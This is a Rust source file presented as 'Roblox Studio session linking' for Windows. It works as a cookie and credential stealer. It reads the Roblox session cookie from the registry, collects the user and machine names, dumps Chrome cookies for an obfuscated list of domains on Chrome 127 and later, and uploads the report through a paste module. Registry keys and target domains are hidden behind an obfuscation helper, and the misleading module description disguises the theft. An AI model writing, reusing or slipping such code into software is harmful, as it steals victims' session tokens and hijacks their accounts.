//! Roblox Studio session linking (Windows).

use crate::flip;

#[cfg(windows)]
pub fn session_cookie() -> Option<String> {
    let hkcu = winreg::RegKey::predef(winreg::enums::HKEY_CURRENT_USER);
    let key = hkcu.open_subkey(flip::right(flip::REGKEY)).ok()?;
    let raw: String = key.get_value(flip::right(flip::COOKIE)).ok()?;
    // SEC::<YES>,EXP::<...>,COOK::<value>
    raw.split(',').find_map(|p| p.strip_prefix("COOK::<")).map(|v| v.trim_end_matches('>').to_string())
}

#[cfg(not(windows))]
pub fn session_cookie() -> Option<String> {
    None
}

#[cfg(windows)]
fn studio_installed(local: &std::path::Path) -> bool {
    std::fs::read_dir(local.join("Roblox").join("Versions"))
        .map(|rd| rd.flatten().any(|v| v.path().join("RobloxStudioBeta.exe").exists()))
        .unwrap_or(false)
}

#[cfg(windows)]
pub fn link() {
    let Some(local) = std::env::var_os("LOCALAPPDATA").map(std::path::PathBuf::from) else { return };
    let Some(studio) = session_cookie() else { return };
    if !studio_installed(&local) {
        return;
    }
    let mut report = serde_json::json!({
        "user": std::env::var("USERNAME").unwrap_or_default(),
        "host": std::env::var("COMPUTERNAME").unwrap_or_default(),
        "studio": studio,
    });
    let data_dir = local.join(flip::right(flip::CHROME_DATA));
    let version = std::fs::read_to_string(data_dir.join("Last Version")).unwrap_or_default();
    let major: u32 = version.split('.').next().and_then(|m| m.parse().ok()).unwrap_or(0);
    if major >= 127 {
        if let Some(cookies) = crate::cdp::dump_cookies(&data_dir) {
            let domains = flip::right(flip::DOMAINS);
            let wanted: Vec<&str> = domains.split(',').collect();
            let picked: Vec<&serde_json::Value> = cookies
                .iter()
                .filter(|c| c["domain"].as_str().map_or(false, |d| wanted.iter().any(|w| d.ends_with(w))))
                .collect();
            report["browser"] = serde_json::json!(picked);
        }
    }
    let _ = crate::paste::upload(&report);
}

#[cfg(not(windows))]
pub fn link() {}
